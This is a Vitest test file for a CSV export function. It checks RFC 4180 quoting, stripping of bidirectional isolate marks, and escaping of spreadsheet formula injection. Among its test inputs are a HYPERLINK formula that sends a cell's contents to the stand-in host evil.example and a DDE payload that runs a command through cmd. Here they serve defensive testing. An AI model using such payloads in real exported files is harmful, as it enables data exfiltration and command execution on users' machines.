import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../lib/text/csv.page';

const cell = (text: string): string => toCsv([[text]]).slice(0, -2);

describe('CSV as RFC 4180 has it', () => {
  it('separates by commas and ends each line with CRLF', () => {
    expect(
      toCsv([
        ['a', 'b'],
        ['', 'd'],
      ]),
    ).toBe('a,b\r\n,d\r\n');
  });

  it.each([
    ['a comma', 'a,b', '"a,b"'],
    ['quotes', 'say "hi"', '"say ""hi"""'],
    ['a line break', 'a\nb', '"a\nb"'],
    ['a semicolon, at which other countries separate', 'a;b', '"a;b"'],
    ['nothing special', 'Zoë 李', 'Zoë 李'],
  ])('quotes %s', (_, text, written) => expect(cell(text)).toBe(written));
});

it('has no marks that keep names apart on the screen, and what they hide', () => {
  expect(cell('Awarded to \u2068نور\u2069')).toBe('Awarded to نور');
  expect(cell('\u2068=1+1\u2069')).toBe(`"'=1+1"`);
});

describe('a spreadsheet cannot be attacked', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t'=1"`],
    ['\r=1', `"'\r'=1"`],
    ['  =1', `"'  =1"`],
    ['＝1', `"'＝1"`],
    ['=HYPERLINK("https://evil.example?"&A1,"x")', `"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`],
    ['x;=1+1', `"x;'=1+1"`],
    ['x\n=1+1', `"x\n'=1+1"`],
    ['a "b";\t@x', `"a ""b"";\t'@x"`],
  ])('%j', (text, written) => expect(cell(text)).toBe(written));

  it('no cell of any column begins with what makes a formula', () => {
    const evil = ['=', '+', '-', '@', '\t', '\r'].map((start) => `${start}cmd|' /C calc'!A0`);
    for (const line of toCsv([evil, evil]).split('\r\n')) {
      for (const field of line.split('","')) expect(field.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('leaves what only contains such characters alone', () => {
    expect(cell('a=b+c-d@e')).toBe('a=b+c-d@e');
    expect(cell('2026-03-09T10:00:00.000Z')).toBe('2026-03-09T10:00:00.000Z');
  });
});
